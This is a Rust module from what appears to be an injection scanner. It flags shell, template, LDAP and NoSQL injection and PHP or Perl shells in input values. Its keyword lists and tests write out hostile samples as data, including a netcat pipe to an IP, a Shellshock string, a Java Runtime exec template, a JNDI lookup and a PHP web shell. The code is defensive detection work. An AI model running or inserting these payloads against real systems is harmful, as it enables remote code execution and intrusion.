//! Finds values that break out into a shell, a template, an LDAP filter or a document query.
//!
//! Pure functions; a decoded copy is kept in the shard's scratch.

use memchr::memmem::find;

use super::builtin::Builtin;
use super::decode;
use super::detect::Sink;
use super::present::{Marks, Text};

/// Looks at one value of unknown use.
pub(super) fn check(buffer: &mut Vec<u8>, sink: &mut Sink<'_>, text: &[u8], is_command: bool) {
    decode::percent(text, b"", buffer);
    let text = &Text::of(buffer);
    templates(sink, text);
    script(sink, text);
    // What begins with a separator is the end of another's command, not a line of its own.
    let goes_on = matches!(text.bytes().trim_ascii_start().first(), Some(b'|' | b'&' | b';'));
    if is_command && !goes_on {
        // A command line may hold any of the rest by right; the shell detector has judged it.
        return;
    }
    injected(sink, text);
    ldap(sink, text);
    nosql(sink, text);
}

/// Looks at a path or a URL, where a shell may be waiting behind.
pub(super) fn check_injected(buffer: &mut Vec<u8>, sink: &mut Sink<'_>, (text, marks): (&[u8], Marks)) {
    if marks.is_literal(text) && !marks.has(Marks::BREAK) {
        return;
    }
    decode::percent(text, b"", buffer);
    injected(sink, &Text::of(buffer));
}

/// Commands that payloads run to prove or to look around.
const PROBES: &[&[u8]] = &[
    b"id",
    b"whoami",
    b"ls",
    b"cat",
    b"ping",
    b"sleep",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"uname",
    b"dir",
    b"type",
    b"net",
    b"ifconfig",
    b"ipconfig",
    b"systeminfo",
    b"sysinfo",
    b"netstat",
    b"perl",
    b"php",
    b"python",
    b"python3",
    b"ruby",
    b"bash",
    b"sh",
    b"echo",
    b"phpinfo",
    b"nslookup",
    b"dig",
    b"host",
    b"rm",
    b"del",
    b"copy",
    b"cp",
    b"mv",
    b"env",
    b"printenv",
    b"set",
    b"ps",
    b"w",
    b"who",
    b"hostname",
    b"netsh",
    b"reg",
    b"powershell",
    b"cmd",
    b"tasklist",
    b"route",
    b"arp",
    b"find",
    b"touch",
    b"chmod",
    b"kill",
    b"telnet",
    b"ftp",
    b"tftp",
    b"nmap",
    b"socat",
    b"base64",
    b"system",
    b"exec",
    b"passthru",
    b"shell_exec",
    b"eval",
    b"head",
    b"tail",
    b"more",
    b"less",
    b"pwd",
    b"nid",
    b"reboot",
    b"shutdown",
    b"dd",
    b"mkfs",
    b"git",
    b"kubectl",
    b"aws",
    b"docker",
    b"ver",
    b"id;",
];

/// What tells a probe's argument from a sentence.
fn is_argument(word: &[u8]) -> bool {
    word.is_empty()
        || word.iter().any(|byte| {
            matches!(
                byte,
                b'/' | b'\\'
                    | b'.'
                    | b'-'
                    | b':'
                    | b'$'
                    | b'%'
                    | b'*'
                    | b'>'
                    | b'<'
                    | b'('
                    | b'\''
                    | b'"'
                    | b'`'
                    | b'&'
                    | b'|'
                    | b'#'
            )
        })
        || word.iter().all(u8::is_ascii_digit)
        || matches!(word, b"user" | b"users" | b"localgroup" | b"view" | b"firewall" | b"group")
}

/// `; id`, `| cat /etc/passwd`, `` `whoami` ``, `$(sleep 5)`, `() { :;}; …`
fn injected(sink: &mut Sink<'_>, read: &Text<'_>) {
    let text = read.bytes();
    if read.find(b"() {").is_some_and(|at| at < 4) && read.has(b"};") {
        sink.report(Builtin::ShellInjected);
        return;
    }
    let mut at = 0;
    // LIMIT: a payload breaks out within its first separators.
    for _ in 0..24 {
        let is_separator = |byte: &u8| matches!(byte, b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' | b'$' | b'\\');
        let Some(found) = text.get(at..).unwrap_or_default().iter().position(is_separator) else { break };
        let start = at + found;
        at = start + 1;
        if command_follows(text, start) {
            sink.report(Builtin::ShellInjected);
            return;
        }
    }
    if calls_system(read) {
        sink.report(Builtin::ShellProbe);
    }
}

/// Whether the separator at `start` is followed by a command rather than by words.
fn command_follows(text: &[u8], start: usize) -> bool {
    let separator = text.get(start).copied().unwrap_or(0);
    let mut rest = text.get(start + 1..).unwrap_or_default();
    match separator {
        b'$' => match rest.strip_prefix(b"(") {
            Some(inner) => rest = inner,
            None => return false,
        },
        // A line end that is spelled counts where the value begins: in the middle it is how texts are quoted.
        b'\\' => match rest {
            [b'n' | b'r', inner @ ..] if start <= 2 => rest = inner,
            _ => return false,
        },
        _ => {}
    }
    let is_filler =
        |byte: &&u8| matches!(byte, b' ' | b'\t' | b';' | b'|' | b'&' | b'\'' | b'"' | b'\\' | b'`' | b'{' | b'\n' | b'\r');
    let skipped = rest.iter().take(16).take_while(is_filler).count();
    let rest = rest.get(skipped..).unwrap_or_default();
    let is_name = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'_' | b'.' | b'-');
    let length = rest.iter().take(64).take_while(is_name).count();
    let (word, behind) = rest.split_at_checked(length).unwrap_or((rest, b""));
    let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or(word);
    let absolute = [b"/bin/".as_slice(), b"/usr/bin/", b"/sbin/"].iter().any(|root| word.starts_with(root));
    if !absolute && !PROBES.contains(&name) || is_in_text(text, start, separator) {
        return false;
    }
    let argument = argument(behind);
    // In `a; ls` and at the start of a value any separator counts; inside a query string `&id=5` does not.
    let lone_amp = separator == b'&' && behind.first() == Some(&b'=');
    let in_prose = matches!(separator, b'\n' | b'\r')
        && start > 0
        && argument.is_empty()
        && !(start <= 3 || behind.is_empty() || behind.starts_with(b"\n"));
    let closes = behind.first().is_none_or(|byte| !matches!(byte, b'=' | b',' | b'[' | b':')) && is_argument(argument);
    closes && !lone_amp && !in_prose
}

/// The first word behind a command's name, without what closes it.
fn argument(behind: &[u8]) -> &[u8] {
    let rest = behind.trim_ascii_start();
    let end = rest.iter().position(|byte| byte.is_ascii_whitespace()).unwrap_or(rest.len());
    let word = rest.get(..end).unwrap_or_default();
    let kept = word.iter().rposition(|byte| !matches!(byte, b')' | b'}' | b';' | b'`')).map_or(0, |at| at + 1);
    word.get(..kept).unwrap_or(word)
}

/// Whether a separator belongs to a sentence, an entity or a name in backticks.
fn is_in_text(text: &[u8], start: usize, separator: u8) -> bool {
    let before = text.get(..start).unwrap_or_default();
    // `&#x27;id` and `&lt;` are entities, `a | b` in a table is no pipe: words of prose follow those.
    let is_entity = separator == b';' && before.iter().rev().take(8).any(|byte| *byte == b'&');
    // Behind several words a separator belongs to a sentence, and a word in backticks is a name.
    let in_sentence = memchr::memchr_iter(b' ', before.trim_ascii()).count() > 2;
    let in_backticks = separator == b'`'
        && (before.trim_ascii().len() > 8 && memchr::memchr(b' ', before).is_some() || is_code_span(text, start));
    is_entity || in_sentence || in_backticks
}

/// Calls by which payloads run a command from a language.
const CALLS: &[&[u8]] = &[
    b"system('",
    b"system(\"",
    b"exec('",
    b"exec(\"",
    b"passthru('",
    b"shell_exec('",
    b"shell_exec(\"",
    b"popen('",
    b"popen(\"",
    b"eval('",
    b"eval(\"",
    b"phpinfo()",
    b"phpversion()",
    b"system(id",
    b"system($_",
    b"eval($_",
    b"exec($_",
    b"assert($_",
    b"$_get[",
    b"$_GET[",
    b"$_POST[",
    b"$_REQUEST[",
    b"<?php",
    b"print(system(",
    b"php://input",
    b"cmd=",
];

/// Whether a short value calls one of them.
fn calls_system(read: &Text<'_>) -> bool {
    let text = read.bytes().trim_ascii();
    if text.len() >= 200 || memchr::memchr(b'\n', text).is_some() {
        return false;
    }
    CALLS.iter().filter(|call| read.has(call)).any(|call| {
        find(text, call).is_some_and(|at| {
            let is_method = at.checked_sub(1).and_then(|before| text.get(before)) == Some(&b'.');
            *call != b"cmd=" && at < 64 && !is_method || at > 0 && find(text, b"exec").is_some()
        })
    })
}

/// Scripts that wait for commands: PHP that runs what a request says, Perl that connects out and hands over its input.
fn script(sink: &mut Sink<'_>, text: &Text<'_>) {
    let has = |part: &[u8]| text.has(part);
    let takes = has(b"$_GET") || has(b"$_POST") || has(b"$_REQUEST") || has(b"$_COOKIE");
    let runs = [b"system(".as_slice(), b"exec(", b"eval(", b"passthru(", b"include(", b"assert(", b"popen(", b"`"];
    if has(b"<?") && takes && runs.iter().any(|call| has(call)) {
        sink.report(Builtin::ShellProbe);
    }
    if has(b"sockaddr_in(") && has(b"connect(") && (has(b"exec(") || has(b"STDIN")) {
        sink.report(Builtin::ShellReverse);
    }
}

/// What only an expression that reaches for the machine holds.
const REACHES: &[&[u8]] = &[
    b"__class__",
    b"__globals__",
    b"__import__",
    b"__init__",
    b"__mro__",
    b"__subclasses__",
    b"__builtins__",
    b"__base__",
    b".mro()",
    b".subclasses()",
    b"__class",
    b"getclass",
    b"forname(",
    b"getruntime",
    b"processbuilder",
    b"t(java",
    b"t(org",
    b"java.lang",
    b".class.",
    b"freemarker",
    b"?new()",
    b"?api",
    b"system(",
    b"exec(",
    b"popen(",
    b"eval(",
    b"passthru",
    b"phpinfo",
    b"jndi:",
    b"config.items",
    b"config.",
    b"self._",
    b"self.",
    b"|attr(",
    b"lipsum",
    b"cycler.",
    b"joiner.",
    b"url_for.",
    b"get_flashed",
    b"request.application",
    b"request|attr",
    b"constructor",
    b"process.",
    b"require(",
    b"global.process",
    b"file_get_contents",
    b"registerundefinedfilter",
    b"registerfilter",
    b"_self.env",
    b"runtime",
    b"class.forname",
    b"import os",
    b"import(",
    b"os.system",
    b"subprocess",
    b"open(",
    b"file.open",
    b"file.read",
    b"\"/etc/",
    b"'/etc/",
    b"c:\\",
    b".__ ",
    b"dir.entries",
    b"io.popen",
    b"print(",
    b"sleep(",
    b"getenv",
    b"secret",
    b"$_server",
    b"$_get",
    b"dump(app",
    b"app.request",
    b"app[",
    b"|filter(",
    b"|map(",
    b"|sort(",
    b"_context",
];

/// Whether what stands in backticks is followed by words: a name in a text.
fn is_code_span(text: &[u8], open: usize) -> bool {
    let rest = text.get(open + 1..).unwrap_or_default();
    let Some(close) = memchr::memchr(b'`', rest) else { return text.starts_with(b"```") };
    let behind = rest.get(close + 1..).unwrap_or_default();
    matches!(behind, [b' ' | b':', b' ' | b'a'..=b'z' | b'A'..=b'Z', ..]) || behind.starts_with(b"`")
}

/// What only the language of a template begins with.
const DIRECTIVES: &[&[u8]] = &[
    b"<#assign",
    b"#set($",
    b"#set ($",
    b"<#list",
    b"{php}",
    b"{literal}",
    b"<%=`",
    b"#evaluate(",
    b"{system(",
    b"{{'a'.getclass",
    b"<%!",
    b"th:text=",
    b"<jsp:",
    b"{{[].",
    b"{{''.",
    b"{{\"\".",
    b"{{()",
    b"[#assign",
    b"{$smarty",
    b"{{request",
    b"{{dump",
    b"{{config",
    b"{{self",
    b"{{settings",
    b"{{app",
    b"{{ config",
    b"{% debug",
    b"{% for",
    b"{% include",
    b"{% import",
    b"{{range.",
    b"{{#with",
];

/// Expressions in template marks that compute with numbers or reach for the machine.
fn templates(sink: &mut Sink<'_>, read: &Text<'_>) {
    const MARKS: &[(&[u8], &[u8])] = &[
        (b"{{", b"}}"),
        (b"${", b"}"),
        (b"#{", b"}"),
        (b"*{", b"}"),
        (b"<%", b"%>"),
        (b"{%", b"%}"),
        (b"@(", b")"),
        (b"[[", b"]]"),
        (b"{@", b"}"),
        (b"{php}", b"{/php}"),
        (b"{{=", b"}}"),
        (b"~{", b"}"),
        (b"{$", b"}"),
    ];
    let text = read.bytes();
    let is_hit = MARKS.iter().filter(|(open, _)| read.has(open)).any(|(open, close)| {
        let mut from = 0;
        // LIMIT: a handful of expressions per kind of mark.
        for _ in 0..8 {
            let Some(at) = find(text.get(from..).unwrap_or_default(), open) else { return false };
            let body = text.get(from + at + open.len()..).unwrap_or_default();
            let end = find(body, close).unwrap_or(body.len().min(256));
            let body = body.get(..end).unwrap_or_default();
            from += at + open.len();
            let on_text = *open == b"{{" && calls_on_text(body.trim_ascii());
            if !body.starts_with(b"{") && computes(body) || *open != b"[[" && (reaches(body) || on_text) {
                return true;
            }
        }
        false
    });
    if is_hit || DIRECTIVES.iter().any(|part| read.has_folded(part)) {
        sink.report(Builtin::MarkupTemplate);
    }
}

/// `'a'.toUpperCase()`: a method of a text that nobody had to write in a template.
fn calls_on_text(body: &[u8]) -> bool {
    let Some((quote @ (b'\'' | b'"'), rest)) = body.split_first() else { return false };
    let Some(close) = memchr::memchr(*quote, rest) else { return false };
    let behind = rest.get(close + 1..).unwrap_or_default();
    close <= 16 && behind.starts_with(b".") && behind.ends_with(b")")
}

/// `7*7`, `'7'*7`, `3 + 4`: numbers that a template would compute.
fn computes(body: &[u8]) -> bool {
    let body = body.trim_ascii();
    if body.len() > 24 {
        return false;
    }
    let mut operators = 0;
    let mut digits = 0;
    for byte in body {
        match byte {
            b'*' => operators += 1,
            b'+' | b'-' | b'/' => operators += usize::from(digits > 0),
            b'0'..=b'9' => digits += 1,
            b'\'' | b'"' | b' ' | b'(' | b')' | b'[' | b']' | b'=' => {}
            _ => return false,
        }
    }
    operators > 0 && digits >= 2
}

fn reaches(body: &[u8]) -> bool {
    REACHES.iter().any(|part| {
        contains_folded(body, part)
            && (!matches!(
                *part,
                b"secret"
                    | b"config."
                    | b"app["
                    | b"runtime"
                    | b"self."
                    | b"process."
                    | b"constructor"
                    | b"print("
                    | b"open("
                    | b"import("
            ) || is_bold(body))
    })
}

/// Words that also occur in honest templates count only where they are called or dug into.
fn is_bold(body: &[u8]) -> bool {
    memchr::memchr(b'(', body).is_some() || find(body, b"__").is_some() || memchr::memchr_iter(b'.', body).count() >= 3
}

/// Case-blind search for a lower-case part.
fn contains_folded(text: &[u8], part: &[u8]) -> bool {
    let Some(first) = part.first() else { return false };
    let upper = first.to_ascii_uppercase();
    let mut from = 0;
    while let Some(at) = memchr::memchr2(*first, upper, text.get(from..).unwrap_or_default()) {
        let start = from + at;
        from = start + 1;
        if text.get(start..start + part.len()).is_some_and(|head| head.eq_ignore_ascii_case(part)) {
            return true;
        }
    }
    false
}

/// Parentheses that close before they open, with filter syntax around them.
fn ldap(sink: &mut Sink<'_>, read: &Text<'_>) {
    if !read.holds(b')') && !read.holds(b'(') {
        return;
    }
    let text = read.bytes();
    let mut depth = 0_i32;
    let mut lowest = 0;
    for byte in text {
        depth += i32::from(*byte == b'(') - i32::from(*byte == b')');
        lowest = lowest.min(depth);
    }
    let injected_filter = text.starts_with(b"*(|(") || text.starts_with(b"*(&(");
    if injected_filter {
        sink.report(Builtin::LdapInjection);
    }
    let syntax = [
        b")(|".as_slice(),
        b")(&",
        b"*)(",
        b"*)|",
        b"(|(",
        b"(&(",
        b")(cn=",
        b")(uid=",
        b"*))",
        b"*()|",
        b"|(",
        b")(objectclass",
        b"=*)",
        b"=*))",
        b"(|",
        b")(!(",
    ]
    .iter()
    .any(|part| read.has_folded(part));
    let attribute = memchr::memchr(b'=', text).is_some() || text.contains(&b'*');
    let is_filter = text.len() < 256 && !text.iter().any(|byte| matches!(byte, b' ' | b'\n' | b'"' | b'{' | b'<' | b';'));
    if syntax && attribute && (lowest < 0 || depth != 0) && is_filter {
        sink.report(Builtin::LdapInjection);
    }
}

/// `[$ne]=1`, `{"$gt": ""}`, `$where: '1 == 1'`, `' && this.password.match(…)`
fn nosql(sink: &mut Sink<'_>, read: &Text<'_>) {
    let (text, has) = (read.bytes(), |part: &[u8]| read.has(part));
    let bracket = [b"[$ne]".as_slice(), b"[$gt]", b"[$lt]", b"[$gte]", b"[$regex]", b"[$exists]", b"[$in]", b"[$nin]", b"[$eq]"]
        .iter()
        .any(|part| has(part));
    let where_code = has(b"$where") && (has(b"'") || has(b"\"") || has(b"function") || has(b"==") || has(b":"));
    let opened = matches!(text, [b'\'' | b'"', ..])
        && text
            .get(1..)
            .unwrap_or_default()
            .trim_ascii_start()
            .first()
            .is_some_and(|byte| matches!(byte, b';' | b'|' | b'&' | b',' | b'}' | b')'));
    let script = (opened || text.starts_with(b"||") || text.starts_with(b"&&"))
        && (has(b"this.")
            || has(b"return ")
            || has(b"return(")
            || has(b"sleep(")
            || has(b"$comment")
            || has(b"$or")
            || opened && has(b"=="));
    let empty = [
        b"\"$gt\": \"\"".as_slice(),
        b"\"$gt\":\"\"",
        b"$gt: ''",
        b"$gt:''",
        b"\"$ne\": null",
        b"\"$ne\":null",
        b"\"$ne\": \"\"",
        b"\"$ne\":\"\"",
        b"$ne: null",
        b"$ne: ''",
        b"\"&exists\"",
        b"\"$ne\": 1",
        b"\"$ne\":1",
        b"$ne:1",
        b"$ne: 1",
        b"{\"$regex\":\".*\"}",
    ]
    .iter()
    .any(|part| has(part));
    let store = has(b"db.") && (has(b".insert(") || has(b".drop(") || has(b"db.injection"));
    if bracket || where_code || script || empty || store || text.starts_with(b"{ $ne") || text.starts_with(b"{$ne") {
        sink.report(Builtin::NosqlInjection);
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::check_argument;

    #[test]
    fn break_outs_are_told_from_text() {
        let rows = [
            ("; id", Some("shell.injected-command")),
            ("a.txt; cat /etc/hosts", Some("shell.injected-command")),
            ("x | nc 10.0.0.1 80", Some("shell.injected-command")),
            ("`whoami`", Some("shell.injected-command")),
            ("$(sleep 5)", Some("shell.injected-command")),
            ("127.0.0.1%0Aid", Some("shell.injected-command")),
            ("() { :;}; /bin/bash -c 'id'", Some("shell.injected-command")),
            ("{{7*7}}", Some("markup.template")),
            ("${7*7}", Some("markup.template")),
            ("<%= 7*7 %>", Some("markup.template")),
            ("{{''.__class__.__mro__}}", Some("markup.template")),
            ("${T(java.lang.Runtime).getRuntime().exec('id')}", Some("markup.template")),
            ("${jndi:ldap://x/a}", Some("markup.template")),
            ("*)(uid=*))(|(uid=*", Some("injection.ldap")),
            ("admin*)((|userpassword=*)", Some("injection.ldap")),
            ("user[$ne]=1", Some("injection.nosql")),
            ("|/bin/ls -al", Some("shell.injected-command")),
            ("\\n/usr/bin/id;", Some("shell.injected-command")),
            ("<?php system($_GET['cmd']); ?>", Some("shell.code-execution")),
            ("{{'a'.toUpperCase()}}", Some("markup.template")),
            ("path C:\\new\\id", None),
            ("uses: a/b\nenv:\n  ID: 1", None),
            ("{{ 'Hello' | upper }}", None),
            ("{\"$gt\": \"\"}", Some("injection.nosql")),
            ("(&(objectClass=user)(cn=bob))", None),
            ("{\"age\":{\"$gt\":5}}", None),
            ("bread & cat food", None),
            ("salt; pepper; oil", None),
            ("R&D and Q&A", None),
            ("a=1&id=5&set=6", None),
            ("{{name}}", None),
            ("${{ secrets.TOKEN }}", None),
            ("${HOME}/bin", None),
            ("Hello {{ user.first_name }}, your order {{ order.id }}", None),
            ("f(x) = (a + b) * c", None),
            ("see (1) and (2)", None),
        ];
        for (text, expect) in rows {
            assert_eq!(check_argument("input", text).as_deref(), expect, "{text}");
        }
    }
}
